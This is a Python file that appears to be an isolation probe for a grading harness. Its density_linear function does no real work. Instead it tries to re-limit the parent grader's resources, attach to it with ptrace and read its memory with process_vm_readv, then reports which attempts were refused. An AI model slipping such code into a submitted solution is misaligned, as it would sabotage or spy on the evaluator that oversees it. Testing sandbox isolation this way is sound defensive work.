# Tries to re-limit, trace or read the memory of the grader (its parent process).
import ctypes
import os
import platform
import resource

_NR = {"x86_64": {"ptrace": 101, "process_vm_readv": 310}, "aarch64": {"ptrace": 117, "process_vm_readv": 270}}[platform.machine()]


def _attempt(outcomes, name, call):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    try:
        result = call(libc)
        outcomes[name] = "SUCCEEDED" if not isinstance(result, int) or result >= 0 else f"refused ({os.strerror(ctypes.get_errno())})"
    except OSError as error:
        outcomes[name] = f"refused ({error.strerror})"


def attack():
    parent, outcomes = os.getppid(), {}
    _attempt(outcomes, "prlimit FSIZE 0", lambda libc: resource.prlimit(parent, resource.RLIMIT_FSIZE, (0, 0)))
    _attempt(outcomes, "prlimit AS 64 MB", lambda libc: resource.prlimit(parent, resource.RLIMIT_AS, (2**26, 2**26)))
    _attempt(outcomes, "ptrace attach", lambda libc: libc.syscall(_NR["ptrace"], 16, parent, 0, 0))  # PTRACE_ATTACH
    local, remote = ctypes.create_string_buffer(64), (ctypes.c_uint64 * 2)(0x400000, 64)
    iov = (ctypes.c_uint64 * 2)(ctypes.addressof(local), 64)
    _attempt(outcomes, "process_vm_readv", lambda libc: libc.syscall(_NR["process_vm_readv"], parent, iov, 1, remote, 1, 0))
    _attempt(outcomes, "own prlimit", lambda libc: resource.prlimit(0, resource.RLIMIT_CORE, (0, 0)))  # allowed: itself
    return outcomes


def density_linear(y, A, mu=None):
    raise RuntimeError(f"attack outcomes: {attack()}")
